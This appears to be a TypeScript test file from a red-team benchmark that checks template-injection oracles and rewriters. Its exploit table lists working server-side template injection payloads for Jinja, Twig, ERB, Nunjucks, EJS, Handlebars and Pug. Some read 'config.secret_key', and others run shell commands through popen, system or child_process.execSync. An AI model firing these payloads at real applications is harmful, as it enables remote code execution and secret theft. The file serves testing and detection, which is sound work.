import { templateGrammars } from '../../bench/redteam/grammar/template.ts';
import { templateOracles } from '../../bench/redteam/oracle/code/templates.ts';
import { templateRewriters } from '../../bench/redteam/rewrite/template.ts';
import { type Exploits, testOracle, testRewriters } from './laws.ts';

const sum = '1234*5678';
const curly: Exploits = {
  text: [[`{{${sum}}}`], ['{{config.secret_key}}']],
  attribute: [[`{{${sum}}}`]],
  expression: [[sum], ['config.secret_key']],
  'expression string': [[`"~(${sum})~"`]],
};
const percent: Exploits = {
  text: [[`<%=${sum}%>`], ['<%= config %>']],
  attribute: [[`<%=${sum}%>`]],
  expression: [[sum]],
  'expression string': [[`"+(${sum}).to_s+"`]],
};

const exploits: Readonly<Record<string, Exploits>> = {
  jinja: { ...curly, attribute: [["{{lipsum.__globals__.os.popen('id').read()}}"]] },
  twig: { ...curly, attribute: [["{{['id']|map('system')|join}}"]] },
  erb: { ...percent, attribute: [['<%=`id`%>']] },
  nunjucks: {
    ...curly,
    attribute: [
      [
        `{{range.constructor("return process.mainModule.require('child_process').execSync('id')")()}}`,
      ],
    ],
  },
  ejs: {
    text: [[`<%=${sum}%>`], ['<%= config.secret_key %>']],
    attribute: [["<%= process.mainModule.require('child_process').execSync('id') %>"]],
    expression: [[sum]],
    'expression string': [[`"+(${sum})+"`]],
  },
  handlebars: {
    text: [['{{config.secret_key}}'], ['{{#each config}}{{this}}{{/each}}']],
    attribute: [['{{lookup config "secret_key"}}']],
  },
  pug: {
    text: [[`#{${sum}}`], [`\np= ${sum}`]],
    attribute: [[`"+(${sum})+"`]],
    expression: [["process.mainModule.require('child_process').execSync('id')"], [sum]],
  },
};

for (const oracle of templateOracles) {
  testOracle(oracle, exploits[oracle.name] ?? {});
  const grammar = templateGrammars.find(({ language }) => language === oracle.language);
  if (grammar === undefined) throw new Error(`No grammar for ${oracle.name}.`);
  const fitting = templateRewriters.filter(({ language }) => language === oracle.language);
  testRewriters(oracle, grammar, fitting);
}
